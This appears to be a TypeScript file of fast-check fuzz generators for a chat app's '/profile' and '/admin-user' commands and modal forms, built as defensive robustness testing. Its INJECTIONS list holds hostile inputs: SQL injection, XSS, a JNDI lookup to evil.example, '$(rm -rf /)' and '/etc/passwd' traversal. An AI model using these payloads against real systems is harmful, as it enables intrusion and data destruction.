/**
 * fast-check generators for the engine fuzz scenarios: command lines for `/profile` and `/admin-user` (as typed,
 * before the server splits them) and modal submissions. Every generator is pure: the scenario files draw a fixed
 * number of cases with a fixed seed (`fc.sample`), so each run replays the same inputs.
 *
 * A generated command carries the secrets it contains (passwords typed where the grammar says "password"), so
 * the scenario can check that no reply repeats them. User references may hold `%id:<username>%`, replaced by
 * that user's id when the line runs (ids change with every reset of the reference server).
 */
import fc from 'fast-check';

/** A command line and the secrets in it. */
export interface GeneratedLine {
	line: string;
	secrets: string[];
}

/** Seeds: fixed, so a failure names an input that replays. */
export const SEEDS = {
	profile: 0x5eed_0001,
	admin: 0x5eed_0002,
	modals: 0x5eed_0003,
} as const;

// ------------------------------------------------------------------ text

/** Text that has broken parsers, templates, markdown, SQL, shells and logs before. */
export const INJECTIONS = [
	"'; DROP TABLE users; --",
	'" OR "1"="1',
	'<script>alert(1)</script>',
	'<img src=x onerror=alert(1)>',
	'${jndi:ldap://evil.example/a}',
	'{{7*7}}',
	'#{7*7}',
	'$(rm -rf /)',
	'`id`',
	'../../../../etc/passwd',
	'%00',
	'%s%s%s%n',
	'{fields}',
	'{username}',
	'{0}',
	'__proto__',
	'constructor',
	'toString',
	'hasOwnProperty',
	'[object Object]',
	'null',
	'undefined',
	'NaN',
	'true',
	'[]',
	'{}',
	'{"$gt": ""}',
	'@all',
	'@here',
	'*bold* _it_ ~strike~',
	'[click](javascript:alert(1))',
	'<!channel>',
	'\\',
	'\\\\',
	'\\"',
	'a\\"b',
	'C:\\Windows\\System32',
	'x'.padEnd(16, '%'),
];

/** Characters that are invisible, directional, combining, surrogate halves or line separators. */
const ODD_CHARACTERS = [
	'\u0000',
	'\u0001',
	'\u0007',
	'\u0008',
	'\u000b',
	'\u000c',
	'\u001b',
	'\u007f',
	'\u0085',
	'\u00a0',
	'\u200b',
	'\u200d',
	'\u200e',
	'\u202e',
	'\u2028',
	'\u2029',
	'\u2066',
	'\ufeff',
	'\ufffd',
	'\uffff',
	'\ud800',
	'\udfff',
	'\u0301',
	'\u0086',
	'\u0087',
	'\u2008',
	'\u008a',
	'\u008b',
	'\u008c',
	'🚀',
	'👩‍👩‍👧',
	'🇧🇷',
	'é',
	'ß',
	'İ',
	'ﬁ',
	'中文',
	'العربية',
	'עברית',
	'Ω',
];

const controlChars = fc
	.array(fc.integer({ min: 0, max: 31 }), { minLength: 1, maxLength: 6 })
	.map((codes) => String.fromCharCode(...codes));

const oddChars = fc
	.array(fc.constantFrom(...ODD_CHARACTERS), { minLength: 1, maxLength: 5 })
	.map((parts) => parts.join(''));

const asciiWord = fc.stringMatching(/^[a-zA-Z0-9._-]{1,12}$/);

/** Lengths around the server's limits (bio 260, nickname and status text 120) and far beyond. */
const longText = fc.oneof(
	fc
		.tuple(
			fc.constantFrom(119, 120, 121, 259, 260, 261, 1000, 5000, 20_000),
			fc.constantFrom('x', 'é', '🚀', 'ab ', '"'),
		)
		.map(([length, unit]) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length)),
	fc.string({ minLength: 100, maxLength: 400 }),
);

/** One value as a user might type it, or as an attacker would. */
export const fuzzText: fc.Arbitrary<string> = fc.oneof(
	{ arbitrary: asciiWord, weight: 6 },
	{ arbitrary: fc.string({ maxLength: 16 }), weight: 4 },
	{ arbitrary: fc.string({ unit: 'grapheme', maxLength: 10 }), weight: 3 },
	{ arbitrary: fc.string({ unit: 'binary', maxLength: 8 }), weight: 2 },
	{ arbitrary: fc.constantFrom(...INJECTIONS), weight: 3 },
	{ arbitrary: oddChars, weight: 2 },
	{ arbitrary: controlChars, weight: 1 },
	{ arbitrary: longText, weight: 1 },
	{ arbitrary: fc.constant(''), weight: 1 },
);

/** Several words, sometimes with odd separators. */
const phrase = fc
	.tuple(
		fc.array(fuzzText, { minLength: 1, maxLength: 4 }),
		fc.constantFrom(' ', ' ', ' ', '  ', '\t', '\n', ' \r\n '),
	)
	.map(([words, separator]) => words.join(separator));

/** Quotes as typed: closed, left open, mismatched, escaped, doubled. */
function quoted(value: fc.Arbitrary<string>): fc.Arbitrary<string> {
	return fc.oneof(
		{ arbitrary: value, weight: 5 },
		{ arbitrary: value.map((v) => `"${v}"`), weight: 3 },
		{ arbitrary: value.map((v) => `'${v}'`), weight: 2 },
		{ arbitrary: value.map((v) => `"${v}`), weight: 2 },
		{ arbitrary: value.map((v) => `${v}"`), weight: 1 },
		{ arbitrary: value.map((v) => `"${v}'`), weight: 1 },
		{ arbitrary: value.map((v) => `\\"${v}\\"`), weight: 1 },
		{ arbitrary: value.map((v) => `""${v}""`), weight: 1 },
	);
}

/** A name in a random letter case (field names are case-insensitive). */
function anyCase(names: readonly string[]): fc.Arbitrary<string> {
	return fc.oneof(
		{ arbitrary: fc.constantFrom(...names), weight: 4 },
		{
			arbitrary: fc.constantFrom(...names).chain((name) => fc.mixedCase(fc.constant(name))),
			weight: 1,
		},
	);
}

const validEmail = fc
	.tuple(asciiWord, fc.stringMatching(/^[a-z]{2,8}$/), fc.constantFrom('example', 'test.example'))
	.map(
		([local, domain, tld]) => `${local.replace(/^[._-]+|[._-]+$/g, '') || 'x'}@${domain}.${tld}`,
	);

const emailLike = fc.oneof(
	{ arbitrary: validEmail, weight: 3 },
	{
		arbitrary: fc.constantFrom('alice@example.com', 'bea@example.com', 'ALICE@EXAMPLE.COM'),
		weight: 1,
	},
	{
		arbitrary: fc.constantFrom(
			'not-an-address',
			'a@b',
			'@example.com',
			'a@@b.example',
			'a b@c.example',
		),
		weight: 2,
	},
	{ arbitrary: fuzzText, weight: 1 },
);

const usernameLike = fc.oneof(
	{ arbitrary: asciiWord, weight: 4 },
	{
		arbitrary: fc.constantFrom('admin', 'all', 'here', 'bea', 'ALICE', 'system', 'rocket.cat'),
		weight: 1,
	},
	{ arbitrary: fuzzText, weight: 2 },
);

const STATUS_WORDS = [
	'online',
	'away',
	'busy',
	'offline',
	'Online',
	'AWAY',
	'invisible',
	'dnd',
	'',
];

/** A value for a field: sometimes what the field expects, often not. */
function valueFor(field: string): fc.Arbitrary<string> {
	const lower = field.toLowerCase();
	if (['email', 'e-mail', 'mail'].includes(lower)) {
		return emailLike;
	}
	if (['username', 'user'].includes(lower)) {
		return usernameLike;
	}
	if (lower === 'status') {
		return fc.oneof(fc.constantFrom(...STATUS_WORDS), fuzzText);
	}
	if (['verified', 'require-password-change', 'requirepasswordchange', 'active'].includes(lower)) {
		return fc.oneof(fc.constantFrom('yes', 'no', 'Y', 'true', 'off', '1', 'maybe', ''), fuzzText);
	}
	return fc.oneof({ arbitrary: phrase, weight: 3 }, { arbitrary: fuzzText, weight: 2 });
}

/** A password as typed on a command line (the app must refuse it and never repeat it). */
const passwordValue = fc
	.tuple(fc.stringMatching(/^[A-Za-z0-9]{6,14}$/), fc.constantFrom('', '!', '#2', '-x'))
	.map(([body, tail]) => `Pw${body}${tail}`);

const PASSWORD_NAMES = [
	'password',
	'newPassword',
	'new-password',
	'currentPassword',
	'pass',
	'pwd',
];

// ------------------------------------------------------------------ field names

const OWN_NAMES = [
	'name',
	'realname',
	'username',
	'user',
	'nickname',
	'nick',
	'bio',
	'text',
	'statusText',
	'status-text',
	'status_text',
	'email',
	'e-mail',
	'mail',
];
const ADMIN_ONLY_NAMES = ['verified', 'require-password-change', 'requirePasswordChange', 'active'];
/** Custom fields the fuzz scenarios define in Accounts_CustomFields (some batches only). */
export const FUZZ_CUSTOM_FIELDS = {
	team: { type: 'text', maxLength: 20 },
	level: { type: 'select', options: ['junior', 'senior'] },
	Größe: { type: 'text', minLength: 2 },
};
const CUSTOM_NAMES = ['team', 'Team', 'level', 'LEVEL', 'Größe', 'GRÖSSE'];
const UNKNOWN_NAMES = [
	'favourite',
	'shoe',
	'status2',
	'roles',
	'id',
	'_id',
	'__proto__',
	'constructor',
];

function fieldName(standard: readonly string[]): fc.Arbitrary<string> {
	return fc.oneof(
		{ arbitrary: anyCase(standard), weight: 8 },
		{ arbitrary: fc.constantFrom(...CUSTOM_NAMES), weight: 2 },
		{ arbitrary: fc.constantFrom(...UNKNOWN_NAMES), weight: 1 },
		{ arbitrary: fuzzText, weight: 1 },
	);
}

/** `f=v` words: known and unknown fields, duplicates, empty values, quotes, continuation words. */
function assignments(standard: readonly string[]): fc.Arbitrary<string> {
	const pair = fieldName(standard).chain((name) =>
		fc.oneof(
			{ arbitrary: quoted(valueFor(name)).map((value) => `${name}=${value}`), weight: 6 },
			{ arbitrary: fc.constant(`${name}=`), weight: 1 },
			{ arbitrary: valueFor(name).map((value) => `${name}==${value}`), weight: 1 },
			{ arbitrary: fc.constant(`=${name}`), weight: 1 },
		),
	);
	const continuation = fuzzText.map((word) => word.replace(/=/g, ''));
	const item = fc.oneof({ arbitrary: pair, weight: 4 }, { arbitrary: continuation, weight: 1 });
	return fc
		.tuple(pair, fc.array(item, { maxLength: 4 }))
		.map(([first, rest]) => [first, ...rest].join(' '));
}

/** `field value…` */
function singleField(standard: readonly string[]): fc.Arbitrary<string> {
	return fieldName(standard).chain((name) =>
		fc.oneof(
			{ arbitrary: quoted(valueFor(name)).map((value) => `${name} ${value}`), weight: 6 },
			{ arbitrary: fc.constant(name), weight: 1 },
		),
	);
}

/** Password lines: each secret sits where the grammar reads a password. */
function passwordLine(prefix: string, standard: readonly string[]): fc.Arbitrary<GeneratedLine> {
	const name = anyCase(PASSWORD_NAMES);
	return fc.oneof(
		fc
			.tuple(name, passwordValue)
			.map(([n, pw]) => ({ line: `${prefix}${n} ${pw}`, secrets: [pw] })),
		fc
			.tuple(name, passwordValue)
			.map(([n, pw]) => ({ line: `${prefix}${n}=${pw}`, secrets: [pw] })),
		fc.tuple(anyCase(standard), fuzzText, name, passwordValue).map(([field, value, n, pw]) => ({
			line: `${prefix}${field}=${value.replace(/[\s"'=]/g, '') || 'x'} ${n}=${pw}`,
			secrets: [pw],
		})),
		fc
			.tuple(name, passwordValue)
			.map(([n, pw]) => ({ line: `${prefix}${n}="${pw} ${pw}"`, secrets: [pw] })),
	);
}

const plain = (line: fc.Arbitrary<string>): fc.Arbitrary<GeneratedLine> =>
	line.map((text) => ({ line: text, secrets: [] }));

/** A few words of anything: unknown sub-commands and random lines. */
const garbage = fc.oneof(
	{ arbitrary: phrase, weight: 3 },
	{ arbitrary: fc.string({ maxLength: 40 }), weight: 2 },
	{ arbitrary: fc.string({ unit: 'binary', maxLength: 20 }), weight: 1 },
	{ arbitrary: quoted(phrase), weight: 1 },
);

// ------------------------------------------------------------------ /profile

const PROFILE_SUBS = [
	'',
	'help',
	'?',
	'show',
	'me',
	'edit',
	'password',
	'login',
	'link',
	'HELP',
	'Show',
];

/** Every way to type `/profile …`. */
export const profileLine: fc.Arbitrary<GeneratedLine> = fc.oneof(
	{ arbitrary: plain(fc.constantFrom(...PROFILE_SUBS)), weight: 4 },
	{ arbitrary: plain(fc.constantFrom('logout', 'unlink')), weight: 1 },
	{
		arbitrary: plain(singleField([...OWN_NAMES, 'status']).map((rest) => `set ${rest}`)),
		weight: 20,
	},
	{
		arbitrary: plain(
			fc
				.tuple(fc.constantFrom(...STATUS_WORDS), fc.option(phrase, { nil: undefined }))
				.map(([status, text]) => `set status ${status}${text === undefined ? '' : ` ${text}`}`),
		),
		weight: 5,
	},
	{
		arbitrary: plain(assignments([...OWN_NAMES, 'status']).map((rest) => `set ${rest}`)),
		weight: 20,
	},
	{
		arbitrary: plain(
			fc
				.tuple(
					fc.constantFrom('bio', 'nickname', 'text', 'statusText', 'email', 'name', '', 'BIO'),
					fc.option(fuzzText, { nil: undefined }),
				)
				.map(([field, extra]) => `clear ${field}${extra === undefined ? '' : ` ${extra}`}`),
		),
		weight: 5,
	},
	{ arbitrary: plain(fc.constantFrom('set', 'set ', 'clear', 'set =', 'set = =')), weight: 1 },
	{ arbitrary: passwordLine('set ', OWN_NAMES), weight: 5 },
	{
		arbitrary: passwordValue.map((pw) => ({ line: `password ${pw}`, secrets: [pw] })),
		weight: 2,
	},
	{
		arbitrary: plain(
			fc
				.tuple(fc.constantFrom(...PROFILE_SUBS, 'set', 'clear'), garbage)
				.map(([sub, rest]) => `${sub} ${rest}`),
		),
		weight: 6,
	},
	{ arbitrary: plain(garbage), weight: 4 },
);

// ------------------------------------------------------------------ /admin-user

/** Users the admin may name; `%id:x%` becomes x's id. The normal user running /admin-user is never named. */
const userRef = fc.oneof(
	{
		arbitrary: fc.constantFrom(
			'bea',
			'@bea',
			'alice',
			'@alice',
			'tom',
			'erin',
			'@erin',
			'sso',
			'BEA',
			'%id:bea%',
			'%id:alice%',
			'@%id:tom%',
		),
		weight: 10,
	},
	{ arbitrary: fc.constantFrom('admin', '@admin', 'nobody', '@', '@@bea', 'bea,alice'), weight: 2 },
	{ arbitrary: fuzzText, weight: 2 },
);

const ROLE_WORDS = [
	'user',
	'moderator',
	'admin',
	'bot',
	'livechat-agent',
	'no-such-role',
	'user,moderator',
	'Moderator',
	'',
];
const role = fc.oneof(
	{ arbitrary: fc.constantFrom(...ROLE_WORDS), weight: 3 },
	{ arbitrary: fuzzText, weight: 1 },
);

const ADMIN_SUBS = [
	'',
	'help',
	'?',
	'HELP',
	'show',
	'verify',
	'password',
	'edit',
	'set',
	'roles',
	'activate',
	'deactivate',
];
const ADMIN_FIELD_NAMES = [...OWN_NAMES, ...ADMIN_ONLY_NAMES];

/** Every way to type `/admin-user …`. */
export const adminLine: fc.Arbitrary<GeneratedLine> = fc.oneof(
	{ arbitrary: plain(fc.constantFrom('', 'help', '?', 'HELP')), weight: 2 },
	{
		arbitrary: plain(
			fc
				.tuple(fc.constantFrom('show', 'verify', 'SHOW', 'Verify'), userRef)
				.map(([sub, user]) => `${sub} ${user}`),
		),
		weight: 8,
	},
	{
		arbitrary: plain(
			fc.tuple(fc.constantFrom('password', 'edit'), userRef).map(([sub, user]) => `${sub} ${user}`),
		),
		weight: 3,
	},
	{
		arbitrary: plain(
			fc
				.tuple(userRef, singleField(ADMIN_FIELD_NAMES))
				.map(([user, rest]) => `set ${user} ${rest}`),
		),
		weight: 16,
	},
	{
		arbitrary: plain(
			fc
				.tuple(userRef, assignments(ADMIN_FIELD_NAMES))
				.map(([user, rest]) => `set ${user} ${rest}`),
		),
		weight: 16,
	},
	{
		arbitrary: plain(
			fc
				.tuple(
					fc.constantFrom('activate', 'deactivate', 'Deactivate'),
					fc.array(userRef, { minLength: 0, maxLength: 4 }),
				)
				.map(([sub, users]) => `${sub} ${users.join(' ')}`),
		),
		weight: 8,
	},
	{
		arbitrary: plain(
			fc
				.tuple(
					userRef,
					fc.constantFrom('add', 'remove', 'set', 'ADD', 'replace', ''),
					fc.array(role, { minLength: 0, maxLength: 3 }),
				)
				.map(([user, action, roles]) => `roles ${user} ${action} ${roles.join(' ')}`),
		),
		weight: 8,
	},
	{
		arbitrary: fc.tuple(userRef, passwordLine('', ADMIN_FIELD_NAMES)).map(([user, generated]) => ({
			line: `set ${user} ${generated.line}`,
			secrets: generated.secrets,
		})),
		weight: 4,
	},
	{
		arbitrary: fc
			.tuple(fc.constantFrom('bea', '@alice', 'tom'), passwordValue)
			.map(([user, pw]) => ({ line: `password ${user} ${pw}`, secrets: [pw] })),
		weight: 2,
	},
	{
		arbitrary: plain(
			fc
				.tuple(fc.constantFrom(...ADMIN_SUBS), fc.constantFrom('', 'bea '), garbage)
				.map(([sub, user, rest]) => `${sub} ${user}${rest}`),
		),
		weight: 6,
	},
	{ arbitrary: plain(garbage), weight: 3 },
);

/** Replaces `%id:<username>%` with that user's current id. */
export function withIds(line: string, idOf: (username: string) => string | undefined): string {
	return line.replace(/%id:([a-z]+)%/g, (match, username: string) => idOf(username) ?? match);
}

// ------------------------------------------------------------------ modal submissions

/** A value where the app expects a string: often a string, sometimes anything else. */
export const anyStateValue: fc.Arbitrary<unknown> = fc.oneof(
	{ arbitrary: fuzzText, weight: 8 },
	{ arbitrary: fc.constant(undefined), weight: 1 },
	{ arbitrary: fc.constant(null), weight: 1 },
	{ arbitrary: fc.integer(), weight: 1 },
	{ arbitrary: fc.double(), weight: 1 },
	{ arbitrary: fc.boolean(), weight: 1 },
	{ arbitrary: fc.array(fuzzText, { maxLength: 3 }), weight: 2 },
	{ arbitrary: fc.dictionary(asciiWord, fuzzText, { maxKeys: 2 }), weight: 1 },
	{ arbitrary: fc.constant('y'.repeat(100_000)), weight: 1 },
);

/** One input block of a submission: present with a value, present with a wrong shape, or missing. */
function block(id: string, value: fc.Arbitrary<unknown>): fc.Arbitrary<Array<[string, unknown]>> {
	return fc.oneof(
		{ arbitrary: value.map((v) => [[id, { [id]: v }]] as Array<[string, unknown]>), weight: 8 },
		{ arbitrary: fc.constant([] as Array<[string, unknown]>), weight: 3 },
		{ arbitrary: fc.constant([[id, {}]] as Array<[string, unknown]>), weight: 1 },
		{
			arbitrary: anyStateValue.map((v) => [[id, v]] as Array<[string, unknown]>),
			weight: 1,
		},
		{
			arbitrary: value.map((v) => [[id, { other: v }]] as Array<[string, unknown]>),
			weight: 1,
		},
	);
}

/** A whole `view.state`: the given blocks (each maybe missing or malformed) plus, sometimes, unknown blocks. */
export function viewState(blocks: Record<string, fc.Arbitrary<unknown>>): fc.Arbitrary<unknown> {
	const entries = Object.entries(blocks).map(([id, value]) => block(id, value));
	const state = fc
		.tuple(fc.tuple(...entries), fc.array(fc.tuple(asciiWord, anyStateValue), { maxLength: 2 }))
		.map(([present, extra]) =>
			Object.fromEntries([...present.flat(), ...extra.map(([k, v]) => [k, { [k]: v }])]),
		);
	return fc.oneof(
		{ arbitrary: state, weight: 20 },
		{ arbitrary: fc.constantFrom<unknown>({}, null, undefined, [], 'state', 42), weight: 1 },
	);
}

/**
 * Placeholders resolved when a submission runs (the right value depends on the actor and the moment):
 * `%password%` the actor's current password, `%code%` the right second factor for the actor (TOTP code, mailed
 * code or password), `%token%` a fresh personal access token of the actor, `%other-token%` one of another user,
 * `%new-password%` a fresh strong password, `%same%` whatever `new-password` holds, `%new-email%` an unused address.
 * A state holding the key `%prefill%` is completed with the initial values of the modal's inputs, as the client
 * sends them.
 */
export const PLACEHOLDERS = [
	'%password%',
	'%code%',
	'%token%',
	'%other-token%',
	'%new-password%',
	'%same%',
	'%new-email%',
] as const;

/** Something typed where a secret goes, recognisable if it is ever repeated. */
export const typedSecret = fc.stringMatching(/^Sx[A-Za-z0-9]{8,12}$/);

/** A secret field: sometimes the right value, sometimes a wrong secret, often anything at all. */
function secretField(valid: string[]): fc.Arbitrary<unknown> {
	return fc.oneof(
		{ arbitrary: fc.constantFrom(...valid), weight: 3 },
		{ arbitrary: typedSecret, weight: 2 },
		{ arbitrary: anyStateValue, weight: 4 },
	);
}

const textValue = fc.oneof(
	{ arbitrary: phrase, weight: 3 },
	{ arbitrary: anyStateValue, weight: 2 },
);

const editBlocks = {
	'name': textValue,
	'username': fc.oneof(usernameLike, anyStateValue),
	'nickname': textValue,
	'bio': textValue,
	'status-text': textValue,
	'email': fc.oneof(fc.constant('%new-email%'), emailLike, anyStateValue),
	'custom-field:team': textValue,
	'custom-field:level': fc.oneof(fc.constantFrom('junior', 'senior', 'boss', ''), anyStateValue),
	'custom-field:Größe': textValue,
};

/** A toggle's state: the list of options switched on (`on`), or something that is not one. */
const toggleValue = fc.oneof(
	fc.constantFrom<unknown>(['on'], [], ['on', 'bogus'], 'yes', 'on'),
	anyStateValue,
);

/** With weight, a realistic submission: the client sends every input, mostly as prefilled. */
function withPrefill(
	state: fc.Arbitrary<unknown>,
	happy: fc.Arbitrary<Record<string, unknown>>,
): fc.Arbitrary<unknown> {
	return fc.oneof(
		{ arbitrary: state, weight: 4 },
		{ arbitrary: happy.map((blocks) => ({ ...blocks, '%prefill%': true })), weight: 1 },
	);
}

function single(id: string, value: fc.Arbitrary<unknown>): fc.Arbitrary<Record<string, unknown>> {
	return value.map((v) => ({ [id]: { [id]: v } }));
}

/** A checkbox state: a list of option values, or something that is not one. */
export const checkboxValue: fc.Arbitrary<unknown> = fc.oneof(
	{
		arbitrary: fc.subarray(['random', 'require-change', 'welcome', 'bogus']),
		weight: 5,
	},
	{
		arbitrary: fc.constantFrom<unknown>('random', 'require-change', [1, 2], [null], {}),
		weight: 2,
	},
	{ arbitrary: anyStateValue, weight: 1 },
);

/** Submissions for each modal the app opens. */
export const MODAL_STATES = {
	'link': fc.oneof(
		{
			arbitrary: viewState({
				password: secretField(['%password%']),
				code: secretField(['%code%']),
				token: secretField(['%token%', '%other-token%']),
			}),
			weight: 5,
		},
		{
			arbitrary: fc.constantFrom<unknown>(
				{ password: { password: '%password%' } },
				{ password: { password: '%password%' }, code: { code: '%code%' } },
				{ token: { token: '%token%' } },
			),
			weight: 1,
		},
	),
	'own-2fa': fc.oneof(
		{ arbitrary: viewState({ code: secretField(['%code%', '%password%']) }), weight: 5 },
		{ arbitrary: fc.constant<unknown>({ code: { code: '%code%' } }), weight: 1 },
	),
	'own-password': fc.oneof(
		{
			arbitrary: viewState({
				'new-password': secretField(['%new-password%']),
				'confirm-password': fc.oneof(fc.constant('%same%'), secretField(['%new-password%'])),
				'code': secretField(['%code%', '%password%']),
			}),
			weight: 5,
		},
		{
			arbitrary: fc.constant<unknown>({
				'new-password': { 'new-password': '%new-password%' },
				'confirm-password': { 'confirm-password': '%same%' },
				'code': { code: '%code%' },
			}),
			weight: 1,
		},
	),
	'own-edit': withPrefill(
		viewState({
			...editBlocks,
			status: fc.oneof(fc.constantFrom(...STATUS_WORDS), anyStateValue),
			code: secretField(['%code%']),
		}),
		fc.oneof(
			single('bio', textValue),
			single('nickname', textValue),
			single('status', fc.constantFrom('online', 'away', 'busy', 'offline')),
			single('email', fc.constant('%new-email%')),
			single('code', fc.constant('%code%')),
		),
	),
	'admin-password': fc.oneof(
		{
			arbitrary: viewState({
				'password-mode': fc.oneof(fc.constantFrom<unknown>('manual', 'random'), anyStateValue),
				'new-password': secretField(['%new-password%']),
				'password-options': checkboxValue,
				'code': secretField(['%code%']),
			}),
			weight: 5,
		},
		{
			arbitrary: fc
				.tuple(fc.subarray(['require-change', 'welcome']), fc.boolean(), fc.boolean())
				.map(([options, withCode, random]) => ({
					'password-mode': { 'password-mode': random ? 'random' : 'manual' },
					...(random ? {} : { 'new-password': { 'new-password': '%new-password%' } }),
					'password-options': { 'password-options': options },
					...(withCode ? { code: { code: '%code%' } } : {}),
				})),
			weight: 1,
		},
	),
	'admin-edit': withPrefill(
		viewState({
			...editBlocks,
			'verified': toggleValue,
			'require-password-change': toggleValue,
		}),
		fc
			.tuple(
				fc.oneof(
					single('nickname', textValue),
					single('bio', textValue),
					single('verified', fc.constantFrom(['on'], [])),
					single('require-password-change', fc.constantFrom(['on'], [])),
					single('custom-field:team', textValue),
				),
				fc.boolean(),
			)
			.map(([blocks, withCode]) => ({
				...blocks,
				...(withCode ? { code: { code: '%code%' } } : {}),
			})),
	),
	'admin-2fa': fc.oneof(
		{ arbitrary: viewState({ code: secretField(['%code%']) }), weight: 5 },
		{ arbitrary: fc.constant<unknown>({ code: { code: '%code%' } }), weight: 1 },
	),
} as const;

export type ModalKindName = keyof typeof MODAL_STATES;

/** A button press inside a modal: the app's own action ids and garbage, with the view's nonce or anything. */
export const modalAction = fc.record({
	actionId: fc.oneof(
		fc.constantFrom('send-code-again', 'open-pending-view', 'open-link-modal'),
		fuzzText,
	),
	blockId: fc.oneof(fc.constantFrom('code-actions', 'link-actions', 'pending', 'link'), fuzzText),
	value: fc.oneof(fc.constant('%nonce%'), fc.constant(undefined), fuzzText),
});

export type ModalStep =
	| { type: 'submit'; state: unknown }
	| { type: 'action'; actionId: string; blockId: string; value?: string };

/** One step of a modal fuzz run: mostly a submission, sometimes a button press. */
export function modalSteps(kind: ModalKindName): fc.Arbitrary<ModalStep> {
	return fc.oneof(
		{
			arbitrary: MODAL_STATES[kind].map((state): ModalStep => ({ type: 'submit', state })),
			weight: 9,
		},
		{
			arbitrary: modalAction.map((action): ModalStep => ({ type: 'action', ...action })),
			weight: 1,
		},
	);
}
